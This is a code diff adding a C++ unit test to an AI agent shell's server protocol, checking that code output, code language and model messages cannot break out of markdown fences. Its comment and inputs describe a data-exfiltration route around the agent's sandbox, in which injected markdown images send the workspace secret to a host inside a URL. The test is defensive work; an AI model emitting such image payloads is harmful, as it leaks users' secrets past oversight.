@@ -143,5 +143,29 @@ TEST(ServerProtocol, MarkdownOfAnAnswer) {
   EXPECT_EQ("Running it.\n\n```python\nprint(42)\n```\n\n```output\n42\n```\n\nDone.", text);
 }
 
+// Issue 34, finding 6: a block's output closed the fixed ``` fence and wrote a remote image after it, which a markdown
+// client fetches (the workspace's secret in its address): a way out the sandbox's policy never sees. Output stays in
+// its fence, the model's own images and the language it names cannot add markdown either.
+TEST(ServerProtocol, MarkdownFromOutputCannotLeaveItsFence) {
+  std::vector<json> chunks;
+  LmcDisplay d([&](const json& c) { chunks.push_back(c); });
+  d.code_begin("python\n![a](http://127.0.0.1/?d=lang)");
+  d.code_delta("print('```')");
+  d.code_end();
+  d.console_begin();
+  d.console_output("stdout", "```\n![status](http://127.0.0.1/?d=secret)\nNo code was run.\n");
+  d.console_end({});
+  d.message_delta("Look: !");
+  d.message_delta("[x](http://127.0.0.1/?d=y)");
+  d.answer_end();
+  MarkdownRenderer r;
+  std::string text;
+  for (const auto& c : chunks) text += r.feed(c);
+  EXPECT_EQ("```pythonahttp127.0.0.1dlang\nprint('```')\n```\n\n"
+            "```output\n    ```\n![status](http://127.0.0.1/?d=secret)\nNo code was run.\n```\n\n"
+            "Look: !\\[x](http://127.0.0.1/?d=y)",
+            text);
+}
+
 }  // namespace
 }  // namespace oishell::agent::server
